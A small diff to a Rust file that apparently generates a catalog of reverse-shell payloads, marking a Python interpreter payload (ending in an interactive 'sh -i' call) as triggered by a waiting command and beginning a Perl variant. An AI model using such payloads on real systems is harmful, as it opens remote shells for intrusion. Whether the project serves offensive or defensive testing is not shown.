@@ -22,7 +22,8 @@ pub struct Attack {
     pub wire: Wire,
     pub subject: Subject,
     /// Until the first command comes it is a client that reads from its server, as an honest one
-    /// may: only what it does with that command makes it a shell.
+    /// may: only what it does with that command makes it a shell. Or that command waits in the
+    /// connection before there is a shell, which may carry it out as it starts.
     pub born_of_a_command: bool,
     /// Programs beyond those that every machine has.
     pub needs: &'static [&'static str],
@@ -150,7 +151,8 @@ for i in range(10000):
 subprocess.call(["{sh}","-i"])'"#
     )
 })
-.by_an_interpreter();
+.by_an_interpreter()
+.born_of_a_command();
 
 pub const PERL: Attack = Attack::new(&["perl"], |tools, port| {
     let (perl, sh) = (tools.get("perl"), tools.get("sh"));
